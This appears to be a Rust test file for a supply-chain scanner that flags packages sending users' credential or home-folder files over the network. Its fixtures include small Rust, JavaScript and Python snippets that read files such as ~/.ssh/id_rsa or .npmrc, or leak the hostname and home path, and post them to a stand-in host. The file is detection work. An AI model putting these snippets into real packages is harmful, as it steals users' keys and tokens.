use crate::flow::testing::{found, script, wheel};
use crate::unpack::{Entry, text_file};
use customs_model::{SinkKind, SourceKind};

fn library(code: &str) -> Vec<Entry> {
    vec![
        text_file(
            "a-1.0.0/Cargo.toml",
            "[package]\nname = \"a\"\nversion = \"1.0.0\"\n",
        ),
        text_file("a-1.0.0/src/lib.rs", code),
    ]
}

fn sends_files_of_the_user(entries: Vec<Entry>) -> bool {
    let flows = found(entries).flows;
    flows
        .iter()
        .any(|flow| flow.source == SourceKind::CredentialFile && flow.sink == SinkKind::Network)
}

/// A library reads one file and sends it.
fn sends_what_stands_in(path: &str) -> bool {
    sends_files_of_the_user(library(&format!(
        "pub fn send(name: &std::path::Path) -> Option<()> {{
            let text = std::fs::read_to_string({path}).ok()?;
            reqwest::blocking::Client::new().post(\"https://a.invalid/\").body(text).send().ok()?;
            None
        }}"
    )))
}

#[test]
fn a_relative_path_of_a_caller_that_is_made_absolute_is_no_file_of_the_users() {
    assert!(!sends_what_stands_in(
        "std::env::current_dir().ok()?.join(name)"
    ));
    // As it stands, it is no other file.
    assert!(!sends_what_stands_in("name"));
}

#[test]
fn whichever_file_of_the_home_folder_it_is_it_is_the_users() {
    assert!(sends_what_stands_in("std::env::home_dir()?.join(name)"));
    assert!(sends_what_stands_in(
        "std::env::current_dir().ok()?.join(\".npmrc\")"
    ));
}

#[test]
fn the_same_holds_for_scripts() {
    let code = |folder: &str| {
        script(&format!(
            "const fs = require('fs'), path = require('path'), os = require('os');
            const text = fs.readFileSync(path.join({folder}, process.argv[2]));
            fetch('https://a.invalid/', {{ method: 'POST', body: text }});"
        ))
    };
    assert!(!sends_files_of_the_user(code("process.cwd()")));
    assert!(sends_files_of_the_user(code("os.homedir()")));
}

/// What a hook tells a host of whoever installs it.
fn tells(value: &str) -> Vec<String> {
    let code = format!(
        "const path = require('path'), os = require('os');
        fetch('https://a.invalid/?' + {value})"
    );
    let flows = found(script(&code)).flows.into_iter();
    let identities = flows.filter(|flow| flow.source == SourceKind::Identity);
    identities.map(|flow| flow.source_name).collect()
}

#[test]
fn a_path_in_the_home_folder_is_told_apart_from_the_folder() {
    assert_eq!(
        tells("path.join(os.homedir(), '.a', 'b')"),
        ["a path in os.homedir"]
    );
    assert_eq!(
        tells("path.resolve(process.cwd(), process.argv[2])"),
        ["a path in process.cwd"]
    );
    for (value, name) in [
        ("os.homedir()", "os.homedir"),
        ("path.join(os.homedir(), '..')", "os.homedir"),
        ("path.join(process.cwd(), './')", "process.cwd"),
        ("path.join(os.hostname(), 'a')", "os.hostname"),
        ("path.join('a', os.hostname())", "os.hostname"),
    ] {
        assert_eq!(tells(value), [name], "{value}");
    }
}

#[test]
fn a_file_that_another_caller_reads_is_not_what_this_one_sends() {
    let python = |sent: &str| {
        sends_files_of_the_user(wheel(&format!(
            "import os, urllib.request\n\
             def read(name):\n    with open(name, 'rb') as file:\n        return file.read()\n\
             def keys():\n    return read(os.path.expanduser('~/.ssh/id_rsa'))\n\
             def load(name):\n    return read(name)\n\
             urllib.request.urlopen('https://a.invalid/', data={sent})\nkeys()\n"
        )))
    };
    assert!(python("keys()"));
    assert!(python("load(os.path.expanduser('~/.ssh/id_rsa'))"));
    assert!(!python("load('words.txt')"));
    assert!(!python("load(os.path.basename(os.getcwd()))"));
}
